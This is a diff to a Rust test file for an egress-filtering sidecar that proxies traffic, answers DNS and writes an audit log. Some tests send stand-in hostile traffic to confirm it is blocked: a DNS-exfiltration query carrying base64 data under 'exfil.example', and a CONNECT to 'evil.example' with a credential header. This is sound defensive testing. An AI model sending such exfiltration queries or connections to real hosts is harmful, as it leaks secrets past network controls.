@@ -1,5 +1,6 @@
-//! The `bottle-sidecar` binary itself: it refuses bad policies, serves and
-//! stops on SIGTERM, and its `health` and `netinfo` subcommands.
+//! The `bottle-sidecar` binary itself: it refuses bad policies and a missing
+//! CA, serves (proxy, DNS, audit file) and stops on SIGTERM, and its `health`
+//! and `netinfo` subcommands.
 
 mod common;
 
@@ -14,12 +15,22 @@ use std::time::{Duration, Instant};
 const BIN: &str = env!("CARGO_BIN_EXE_bottle-sidecar");
 
 fn temp_policy(name: &str, text: &str) -> PathBuf {
-    let dir = std::env::temp_dir().join(format!("bottle-sidecar-test-{}", std::process::id()));
-    std::fs::create_dir_all(&dir).unwrap();
+    let dir = common::temp_dir("cli");
     let path = dir.join(name);
     std::fs::write(&path, text).unwrap();
     path
 }
+
+/// A policy in a state dir that also holds a bottle CA.
+fn state_with_ca(text: &str) -> (PathBuf, common::Pki) {
+    let pki = common::Pki::new();
+    let path = pki.dir.join("policy.json");
+    std::fs::write(&path, text).unwrap();
+    (path, pki)
+}
+
+/// The listeners tests do not use, off.
+const QUIET: [&str; 4] = ["--http-listen", "off", "--https-listen", "off"];
 
 fn sidecar(args: &[&str]) -> Output {
     Command::new(BIN).args(args).output().unwrap()
@@ -37,6 +48,8 @@ fn a_policy_of_another_format_is_refused() {
         path.to_str().unwrap(),
         "--proxy-listen",
         "127.0.0.1:0",
+        "--dns-listen",
+        "off",
     ]);
     assert_eq!(out.status.code(), Some(1), "{out:?}");
     let stderr = String::from_utf8_lossy(&out.stderr);
@@ -57,11 +70,23 @@ fn a_policy_of_another_format_is_refused() {
 #[test]
 fn unparseable_and_missing_policies_are_refused() {
     let path = temp_policy("broken.json", "{\"format\":1,");
-    let out = sidecar(&["run", "--policy", path.to_str().unwrap()]);
+    let out = sidecar(&[
+        "run",
+        "--policy",
+        path.to_str().unwrap(),
+        "--dns-listen",
+        "off",
+    ]);
     assert_eq!(out.status.code(), Some(1), "{out:?}");
     assert!(String::from_utf8_lossy(&out.stderr).contains("not valid JSON"));
 
-    let out = sidecar(&["run", "--policy", "/nonexistent/policy.json"]);
+    let out = sidecar(&[
+        "run",
+        "--policy",
+        "/nonexistent/policy.json",
+        "--dns-listen",
+        "off",
+    ]);
     assert_eq!(out.status.code(), Some(1), "{out:?}");
     assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read policy file"));
 }
@@ -74,6 +99,10 @@ fn usage_errors_exit_2() {
         &["run", "--policy"][..],
         &["run", "--policy", "p", "--bogus", "x"][..],
         &["run", "--policy", "p", "--proxy-listen", "not-an-addr"][..],
+        &["run", "--policy", "p", "--https-listen", "443"][..],
+        &["run", "--policy", "p", "--dns-answer", "fd00::2"][..],
+        // DNS is on by default and needs the address to answer with.
+        &["run", "--policy", "p"][..],
         &["frobnicate"][..],
     ] {
         let out = sidecar(args);
@@ -111,19 +140,90 @@ fn wait_for_line(rx: &mpsc::Receiver<String>, want: impl Fn(&Value) -> bool) -> 
 }
 
 #[test]
-fn serves_answers_health_and_stops_on_sigterm() {
-    let path = temp_policy(
-        "ok.json",
-        r#"{"format":1,"bottle":"demo","egress":{"allow":["example.com"]}}"#,
+fn a_missing_ca_is_refused() {
+    let (path, pki) = state_with_ca(r#"{"format":1,"bottle":"demo","egress":{}}"#);
+    std::fs::remove_file(pki.dir.join("ca-key.pem")).unwrap();
+    let out = sidecar(&[
+        "run",
+        "--policy",
+        path.to_str().unwrap(),
+        "--dns-listen",
+        "off",
+    ]);
+    assert_eq!(out.status.code(), Some(1), "{out:?}");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr
+            .contains("refusing to start without TLS interception: cannot read the bottle CA key"),
+        "{stderr}"
     );
+    assert!(!String::from_utf8_lossy(&out.stdout).contains("listening"));
+}
+
+/// The inodes of the UDP sockets process `pid` holds.
+fn udp_sockets_of(pid: u32) -> Vec<String> {
+    let mut udp = Vec::new();
+    for table in ["/proc/net/udp", "/proc/net/udp6"] {
+        let text = std::fs::read_to_string(table).unwrap_or_default();
+        udp.extend(
+            text.lines()
+                .skip(1)
+                .filter_map(|l| l.split_whitespace().nth(9).map(String::from)),
+        );
+    }
+    let mut held = Vec::new();
+    for fd in std::fs::read_dir(format!("/proc/{pid}/fd"))
+        .unwrap()
+        .flatten()
+    {
+        let Ok(link) = std::fs::read_link(fd.path()) else {
+            continue;
+        };
+        let link = link.to_string_lossy().to_string();
+        if let Some(inode) = link
+            .strip_prefix("socket:[")
+            .and_then(|l| l.strip_suffix(']'))
+        {
+            if udp.iter().any(|u| u == inode) {
+                held.push(inode.to_string());
+            }
+        }
+    }
+    held
+}
+
+/// A DNS query for `name`, type A, as a stub resolver sends it.
+fn dns_query(id: u16, name: &str) -> Vec<u8> {
+    let mut q = id.to_be_bytes().to_vec();
+    q.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
+    for label in name.split('.') {
+        q.push(label.len() as u8);
+        q.extend_from_slice(label.as_bytes());
+    }
+    q.extend_from_slice(&[0, 0, 1, 0, 1]);
+    q
+}
+
+#[test]
+fn serves_answers_health_and_stops_on_sigterm() {
+    let (path, pki) =
+        state_with_ca(r#"{"format":1,"bottle":"demo","egress":{"allow":["example.com"]}}"#);
+    let audit = pki.dir.join("egress.jsonl");
     let mut child = Command::new(BIN)
         .args([
             "run",
             "--policy",
             path.to_str().unwrap(),
+            "--audit",
+            audit.to_str().unwrap(),
             "--proxy-listen",
             "127.0.0.1:0",
+            "--dns-listen",
+            "127.0.0.1:0",
+            "--dns-answer",
+            "10.99.0.2",
         ])
+        .args(QUIET)
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
         .spawn()
@@ -131,11 +231,88 @@ fn serves_answers_health_and_stops_on_sigterm() {
     let rx = lines_of(&mut child);
     let loaded = wait_for_line(&rx, |v| v["event"] == "policy-loaded");
     assert_eq!(loaded["bottle"], "demo");
-    let listening = wait_for_line(&rx, |v| v["event"] == "listening");
-    let addr = listening["addr"].as_str().unwrap().to_string();
+    let proxy = wait_for_line(&rx, |v| {
+        v["event"] == "listening" && v["listener"] == "proxy"
+    });
+    let addr = proxy["addr"].as_str().unwrap().to_string();
+    let dns = wait_for_line(&rx, |v| {
+        v["event"] == "listening" && v["listener"] == "dns-udp"
+    });
+    let dns: std::net::SocketAddr = dns["addr"].as_str().unwrap().parse().unwrap();
 
     let out = sidecar(&["health", "--addr", &addr]);
     assert!(out.status.success(), "{out:?}");
+
+    // DNS: an allowed name gets the sidecar's address, a random one REFUSED,
+    // and the sidecar holds no UDP socket but its listener: no upstream.
+    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_read_timeout(Some(PATIENCE)).unwrap();
+    let mut buf = [0u8; 512];
+    udp.send_to(&dns_query(1, "example.com"), dns).unwrap();
+    let (n, _) = udp.recv_from(&mut buf).unwrap();
+    assert_eq!(buf[3] & 0xF, 0, "NOERROR");
+    assert_eq!(&buf[n - 4..n], &[10, 99, 0, 2]);
+    for (i, name) in ["c2VjcmV0.exfil.example", "random-7f3a.example.net"]
+        .iter()
+        .enumerate()
+    {
+        udp.send_to(&dns_query(2 + i as u16, name), dns).unwrap();
+        let (n, _) = udp.recv_from(&mut buf).unwrap();
+        assert_eq!(buf[3] & 0xF, 5, "{name}: REFUSED");
+        assert_eq!(&buf[6..8], &[0, 0], "{name}: no answer");
+        assert!(n < 100);
+    }
+    assert_eq!(
+        udp_sockets_of(child.id()).len(),
+        1,
+        "the sidecar must hold exactly one UDP socket (its DNS listener)"
+    );
+
+    // A refused CONNECT lands in the audit file, without any header value.
+    let mut s = std::net::TcpStream::connect(&addr).unwrap();
+    std::io::Write::write_all(
+        &mut s,
+        b"CONNECT evil.example:443 HTTP/1.1\r\nProxy-Authorization: Basic c2VjcmV0LWhlYWRlcg==\r\nConnection: close\r\n\r\n",
+    )
+    .unwrap();
+    let mut answer = String::new();
+    std::io::Read::read_to_string(&mut s, &mut answer).unwrap();
+    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
+    let deadline = Instant::now() + PATIENCE;
+    let audit_text = loop {
+        let text = std::fs::read_to_string(&audit).unwrap_or_default();
+        if text.contains("evil.example") {
+            break text;
+        }
+        assert!(Instant::now() < deadline, "no audit line: {text}");
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    for line in audit_text.lines() {
+        let v: Value = serde_json::from_str(line).unwrap();
+        assert!(v["service"] == "egress" || v["service"] == "dns", "{line}");
+    }
+    let connect: Value = audit_text
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .find(|v| v["method"] == "CONNECT")
+        .unwrap();
+    for field in [
+        "ts",
+        "client",
+        "method",
+        "host",
+        "port",
+        "rule",
+        "decision",
+        "status",
+        "bytes_up",
+        "bytes_down",
+        "duration_ms",
+    ] {
+        assert!(connect.get(field).is_some(), "{field} missing: {connect}");
+    }
+    assert!(!audit_text.contains("c2VjcmV0LWhlYWRlcg"), "{audit_text}");
+    assert!(audit_text.contains("\"service\":\"dns\""), "{audit_text}");
 
     let status = Command::new("kill")
         .args(["-TERM", &child.id().to_string()])
